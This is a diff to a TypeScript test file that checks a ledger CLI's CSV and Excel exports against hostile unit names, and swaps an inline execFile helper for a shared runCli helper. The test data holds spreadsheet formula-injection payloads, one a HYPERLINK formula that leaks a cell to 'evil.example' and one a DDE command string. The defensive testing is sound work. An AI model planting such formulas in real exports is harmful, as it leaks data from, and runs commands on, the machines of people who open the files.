@@ -7,12 +7,11 @@
 import path from 'node:path';
 import os from 'node:os';
 import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
-import { execFile } from 'node:child_process';
 import { parse } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
 import { openLedger } from '../../ledger';
+import { runCli } from '../helpers/cli';
 
-const ROOT = path.join(__dirname, '..', '..');
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")',
   '+1+cmd|" /C calc"!A0',
@@ -23,15 +22,10 @@ const HOSTILE = [
 ];
 const TRIGGER = /^[=+\-@\t\r]/;
 
-const cli = (...args: string[]): Promise<{ code: number; out: string }> =>
-  new Promise((resolve) => {
-    execFile(
-      process.execPath,
-      ['--import', 'tsx', 'client/cli/main.ts', 'audit', ...args],
-      { cwd: ROOT, encoding: 'utf8' },
-      (err, stdout, stderr) => resolve({ code: err ? 1 : 0, out: `${stdout}${stderr}` }),
-    );
-  });
+const cli = async (...args: string[]): Promise<{ code: number; out: string }> => {
+  const r = await runCli(['audit', ...args]);
+  return { code: r.code, out: `${r.stdout}${r.stderr}` };
+};
 
 describe('exports with hostile unit names', () => {
   let dir: string;
